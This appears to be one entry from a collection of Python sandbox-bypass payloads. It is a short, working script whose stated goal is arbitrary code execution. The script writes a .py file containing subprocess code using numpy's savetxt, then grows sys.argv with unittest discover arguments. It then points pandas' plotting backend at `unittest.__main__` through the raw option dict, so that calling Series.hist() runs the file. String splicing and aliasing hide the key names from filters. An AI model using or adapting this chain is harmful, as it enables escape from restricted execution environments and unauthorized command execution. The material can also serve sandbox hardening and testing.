# source: pandas 1.5.3 DictWrapper.d (pd.options.plotting.d is the raw plotting option dict) + _load_backend importlib.import_module; unittest/__main__.py
# family: plotting backend through the option sub-dict, triggered by Series.hist(); argv grown with += on an alias; .py written by savetxt with f-string extension
# goal: arbitrary code execution (prints output of id)
import sys
import numpy as np
import pandas as pd
ext = "py"
code = "import subprocess; print(subprocess.run(['id'], capture_output=True, text=True).stdout)"
np.savetxt(f"test_q.{ext}", np.zeros((0, 1)), header=code, comments="")
args = sys.argv
args += ["discover", "-s", ".", "-p", "test_q*"]
u = "_" * 2
plot_opts = pd.options.plotting.d
plot_opts["back" + "end"] = "unittest." + u + "main" + u
s = pd.Series([1.0, 2.0])
try:
    s.hist()
except SystemExit:
    pass
